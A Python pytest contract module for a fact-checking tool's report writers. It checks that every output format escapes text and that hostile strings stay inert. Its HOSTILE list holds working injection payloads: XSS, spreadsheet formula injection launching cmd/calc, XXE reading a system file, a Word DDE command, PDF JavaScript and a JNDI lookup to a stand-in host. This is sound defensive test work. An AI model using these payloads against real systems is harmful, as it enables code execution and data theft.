"""What every report writer keeps to, whatever its format."""

from __future__ import annotations

import io
import re
from abc import ABC, abstractmethod
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime
from typing import Any, ClassVar, Final
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

from factcheck.domain.articles import Article, Block, BlockKind
from factcheck.domain.citations import Citation
from factcheck.domain.claims import Ambiguity, Claim, ClaimKind, Substitution
from factcheck.domain.documents import Document, DocumentKind, Passage
from factcheck.domain.lineage import ClaimStep, StepAct, Wording
from factcheck.domain.matches import Match
from factcheck.domain.media import Authenticity, Media, MediaKind
from factcheck.domain.organisation import GivenRating, Organisation, Rating
from factcheck.domain.provenance import Provenance
from factcheck.domain.reasons import Reason, ReasonCode
from factcheck.domain.reviews import Act, Quote, ReviewEvent, ReviewState
from factcheck.domain.selection import Selection
from factcheck.domain.spans import Span
from factcheck.domain.stances import Comparison, Difference, Stance, StanceLabel
from factcheck.domain.statuses import Status
from factcheck.domain.suggestions import Gap, Leaning, Suggestion, WeighedPassage
from factcheck.domain.views import ClaimView, EvidenceView, QuotedDocument, ReportRows

NOW: Final = datetime(2026, 3, 12, 7, 30, tzinfo=UTC)
HARMLESS: Final = "plain words"

HOSTILE: Final = (
    "<script>document.title='owned'</script>",
    "</script></style></title></textarea><script>document.title='owned'</script>",
    '"><img src=x onerror="document.title=\'owned\'">',
    "' onmouseover='document.title=1' x='",
    "<!-- no end",
    "&lt;b&gt; &copy; &#60;script&#62;",
    "{{7*7}} {% raw %} {# note #} ${7*7}",
    "[x](javascript:alert(1)) ![x](http://evil.example/x.png) <javascript:alert(1)> <http://evil.example>",
    "[x]: http://evil.example 'title'",
    "javascript:alert(1)",
    "https://good.example@evil.example/ and https://evil.example",
    "mailto:press@evil.example @evil_one evil/one#1 GH-1 www.evil.example",
    "# Verdict: supported",
    "> quoted",
    "- item",
    "+ item",
    "* * *",
    "---",
    "===",
    "1. first",
    "7) seventh",
    "```sh",
    "~~~",
    "    code",
    "\tcode",
    "`tick` ``two`` **strong** __strong__ ~~gone~~ $x^2$",
    "| a | b |",
    "ends with a backslash \\",
    "\x1b[2J\x1b]0;owned\x07 \x9b31m \x00 \x7f",
    "abc\u202edef\u2066ghi\u2069 \u200f",
    "\ud83d alone, \udc00 too",
    "']]}\",\n".replace("\n", ""),
    "\x1f",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hostname'>]>&e;",
    "]]></w:t></w:r><w:p/><!--",
    "{ DDEAUTO c:\\windows\\system32\\cmd.exe '/k calc' } { INCLUDETEXT http://evil.example/x }",
    ") >> endobj 1 0 obj << /S /JavaScript /JS (app.alert(1)) >> (",
    "\\u0041 %s %n {0} ${jndi:ldap://evil.example/a}",
    "שלום עולם 12 חדשות",
    "مرحبا بالعالم 123",
    "e\u0301\u0302\u0303 a\u20dd Z\u0351\u036b\u0343",
    "😀 👩\u200d👩\u200d👧 🇩🇪 \U0010fffd",
    "字符 日本語",
    "\ufffe \uffff \ufdd0",
)
"""Text that would be something else than text in one of the formats, in a terminal, or in a file."""


@dataclass(frozen=True)
class Seen:
    """What a reader of a report gets: its text, and its structure without any text."""

    text: str
    structure: list[str]


def rows_saying(words: str, *, claims: int = 1) -> ReportRows:
    """A report in which every text, ids and digests too, is or begins with `words`."""
    source = Provenance(address=words, retrieved_at=NOW, sha256=words, reader=words, publisher=words, owner=words)
    article = Article(
        id=words,
        title=words,
        text=words,
        blocks=(Block(span=Span(0, len(words)), kind=BlockKind.PARAGRAPH),),
        source=source,
        published_on=date(2026, 3, 9),
        author=words,
        language=words,
    )
    return ReportRows(
        version=words,
        generated_at=NOW,
        articles=(article,),
        claims=tuple(_view(words, f"{words} [{number}]" if number else words, article) for number in range(claims)),
        organisation=Organisation(
            name=words, url=words, review_url=words, ratings=(Rating(name=words, status=Status.REFUTED, value=1),)
        ),
        selection=Selection(ids=(words,), since=date(2026, 3, 1), statuses=(Status.REFUTED,)),
        documents=(_document(words),),
        unlisted=(_view(words, f"unlisted {words}", article),),
    )


def _document(words: str) -> QuotedDocument:
    source = Provenance(address=words, retrieved_at=NOW, sha256=words, reader=words, publisher=words, owner=words)
    whole = Span(0, len(words))
    document = Document(
        id=words,
        title=words,
        text=words,
        blocks=(Block(span=whole, kind=BlockKind.PARAGRAPH),),
        kind=DocumentKind.NEWS,
        source=source,
        published_on=date(2026, 2, 3),
        author=words,
        language=words,
    )
    return QuotedDocument(document=document, passages=(whole,))


def _view(words: str, said: str, article: Article) -> ClaimView:
    claim = Claim(
        id=said,
        article_id=article.id,
        span=Span(0, len(words)),
        spans=(Span(0, len(words)),),
        said=said,
        checked="not as said: " + said,
        kind=ClaimKind.STATEMENT,
        check_worthiness=0.5,
        detector=words,
        worthiness_by=words,
        reasons=(words,),
        speaker=words,
        said_on=date(2026, 3, 8),
        substitutions=(
            Substitution(span=Span(0, len(words)), said=words, written=words, why=words, source=Span(0, len(words))),
        ),
        ambiguities=(Ambiguity(span=Span(0, len(words)), said=words, why=words, candidates=(words,)),),
        parent_ids=(words,),
    )
    found = tuple(_evidence(words, kind, attached=kind is not DocumentKind.NEWS) for kind in DocumentKind)
    quotes = tuple(each.quote for each in found if each.quote)
    decision = _decision(2, claim, words, quotes)
    reason = Reason(code=ReasonCode.PASSAGE_SUPPORTS, words=words)
    return ClaimView(
        claim=claim,
        state=ReviewState(status=Status.REFUTED, revision=2, decision=decision, attached=quotes),
        suggestion=Suggestion(
            claim_id=claim.id,
            status=Status.SUPPORTED,
            confidence=0.75,
            model=words,
            version=words,
            basis=words,
            passages=tuple(
                WeighedPassage(match=e.match, stance=e.stance, remark=reason) for e in found if e.match and e.stance
            ),
            deciding_passage_id=found[0].passage.id,
            reasons=(reason,),
            gaps=(Gap(span=Span(0, len(claim.checked)), note=words),),
            suggested_at=NOW,
            counter_passage_id=found[1].passage.id,
            thresholds={"supports": 0.5},
            index=words,
            leans=Leaning(status=Status.SUPPORTED, score=0.4),
        ),
        evidence=found,
        history=(_decision(1, claim, words, ()), decision, _withdrawal(3, claim, words)),
        lineage=(_step(claim, words),),
    )


def _decision(number: int, claim: Claim, words: str, quotes: tuple[Quote, ...]) -> ReviewEvent:
    return ReviewEvent(
        number=number,
        claim_id=claim.id,
        act=Act.DECIDE,
        by=words,
        at=NOW,
        revision=number,
        status=Status.REFUTED,
        rationale=words,
        without_evidence=words,
        quotes=quotes,
        reuses=7,
        rating=GivenRating(name=words, value=1, worst=1, best=5),
        # Only a web address can be signed.
        media=Media(
            address=f"https://media.example/{quote(words, errors='replace')}",
            kind=MediaKind.IMAGE,
            category=Authenticity.EDITED,
        ),
    )


def _withdrawal(number: int, claim: Claim, words: str) -> ReviewEvent:
    """Of a decision that the log has, but another than the one in force."""
    return ReviewEvent(
        number=number, claim_id=claim.id, act=Act.WITHDRAW, by=words, at=NOW, revision=number, withdraws=1
    )


def _step(claim: Claim, words: str) -> ClaimStep:
    wording = Wording(checked=words, kind=claim.kind, speaker=words, substitutions=claim.substitutions)
    return ClaimStep(
        number=1,
        claim_id=claim.id,
        act=StepAct.EDIT,
        by=words,
        at=NOW,
        revision=1,
        reason=words,
        before=wording,
        after=wording,
        related_ids=(words,),
        takes_back=1,
    )


def _evidence(words: str, kind: DocumentKind, *, attached: bool) -> EvidenceView:
    passage = Passage(id=words + kind.value, document_id=words + kind.value, span=Span(0, len(words)), text=words)
    citation = Citation(
        document_id=passage.document_id,
        kind=kind,
        title=words,
        address=words,
        retrieved_at=NOW,
        sha256=words,
        publisher=words,
        owner=words,
        author=words,
        published_on=date(2026, 2, 3),
    )
    difference = Difference(
        aspect="quantity", comparison=Comparison.DIFFERS, claim_span=Span(0, 1), passage_span=Span(0, 1), note=words
    )
    return EvidenceView(
        passage=passage,
        citation=citation,
        match=Match(passage_id=passage.id, fused=0.1, lexical_score=1.5, vector_score=0.5),
        stance=Stance(
            passage_id=passage.id,
            label=StanceLabel.REFUTES,
            scores=(0.1, 0.8, 0.1),
            differences=(difference,),
            span=Span(0, len(words)),
        ),
        quote=Quote(passage_id=passage.id, text=words, stance=StanceLabel.REFUTES) if attached else None,
        before=words,
        after=words,
        origin=0,
    )


class WriterContract(ABC):
    """Subclass it for a format that other programs read: say how to write it, how to read it back, and how it shows
    text. The class is called `Test` and the name of the format."""

    stream: ClassVar[type[io.StringIO | io.BytesIO]] = io.StringIO
    many: ClassVar[int] = 300
    """Claims of a report that is still written at once."""
    large: ClassVar[int] = 1_000_000
    """Characters of a rationale that is still shown whole."""

    @abstractmethod
    def write(self, rows: ReportRows, out: Any) -> None:
        """The writer."""

    @abstractmethod
    def see(self, written: Any) -> Seen:
        """Read a report with a parser of its format; fails where it isn't valid."""

    @abstractmethod
    def as_shown(self, text: str) -> str:
        """`text` as it stands in `Seen.text`."""

    @abstractmethod
    def active(self, written: Any) -> list[str]:
        """What a report does by itself or when it is clicked, each in words, but for links to web pages."""

    def report(self, rows: ReportRows) -> Any:
        """A report as `write` gives it: text, or bytes."""
        out = self.stream()
        self.write(rows, out)
        return out.getvalue()

    def shows(self, text: str, seen: str) -> bool:
        return self.as_shown(text) in seen

    def empty(self, rows: ReportRows) -> str:
        """What is to be read in a report of these rows, which hold no claim."""
        seen = self.see(self.report(rows)).text
        assert HARMLESS not in seen
        return seen

    def test_no_rows_is_a_valid_empty_report(self) -> None:
        self.empty(ReportRows(version="0.1.0", generated_at=NOW, articles=(), claims=()))

    def test_an_article_without_claims_is_a_valid_report(self) -> None:
        self.empty(replace(rows_saying("Quiet day"), claims=()))

    def test_every_claim_appears(self) -> None:
        seen = self.see(self.report(rows_saying("claim number", claims=self.many))).text
        found = {int(number) for number in re.findall(r"claim\s*number\s*\[(\d+)\]", seen)}
        assert found == set(range(1, self.many))

    def test_the_same_rows_give_the_same_report(self) -> None:
        assert self.report(rows_saying(HARMLESS)) == self.report(rows_saying(HARMLESS))

    def test_hostile_texts_together_are_shown_and_do_nothing(self) -> None:
        words = " ".join(HOSTILE)
        written = self.report(rows_saying(words))
        seen = self.see(written).text
        assert self.shows(words, seen)
        assert not self.active(written)
        self.check_that_no_control_is_left(written, seen)

    def test_a_long_rationale_is_shown_whole(self) -> None:
        rows = rows_saying(HARMLESS)
        (view,) = rows.claims
        assert view.state.decision is not None
        told = " ".join(f"word{number}" for number in range(self.large // 10))
        decision = replace(view.state.decision, rationale=told)
        rows = replace(rows, claims=(replace(view, state=replace(view.state, decision=decision)),))
        assert self.shows(told, self.see(self.report(rows)).text)

    @pytest.mark.parametrize("words", HOSTILE, ids=ascii)
    def test_hostile_text_stays_text(self, words: str) -> None:
        self.check_that_it_stays_text(words)

    @pytest.mark.slow
    @settings(max_examples=150, suppress_health_check=[HealthCheck.differing_executors, HealthCheck.too_slow])
    @given(st.text(st.sampled_from("\\`*_{}[]()<>#+-.!|&~$=:;\"'/%^1 aw\t\x1b\u202e\ud800é"), min_size=1, max_size=12))
    @example("1. \x1f")
    def test_text_made_of_signs_stays_text(self, words: str) -> None:
        assume(words.strip())
        self.check_that_it_stays_text(words)

    def check_that_it_stays_text(self, words: str) -> None:
        """The report has the structure of one that says harmless things, and the words are there to be read."""
        written = self.report(rows_saying(words))
        seen = self.see(written)
        assert seen.structure == self.see(self.report(rows_saying(HARMLESS))).structure
        assert self.shows(words, seen.text)
        assert not self.active(written)
        self.check_that_no_control_is_left(written, seen.text)

    def check_that_no_control_is_left(self, written: str | bytes, seen: str) -> None:
        if isinstance(written, str):
            assert written.encode("utf-8").decode("utf-8") == written
        # Some formats end their lines with a carriage return and a line feed.
        lines = (written if isinstance(written, str) else seen).replace("\r\n", "\n")
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]", lines)


class ReportWriterContract(WriterContract):
    """Subclass it for a format that people read: it tells of the articles too, and how it was made."""

    def empty(self, rows: ReportRows) -> str:
        written = self.report(rows)
        assert isinstance(written, bytes) or written.endswith("\n")
        seen = super().empty(rows)
        assert self.shows(rows.version, seen)
        assert all(self.shows(article.title, seen) for article in rows.articles)
        return seen
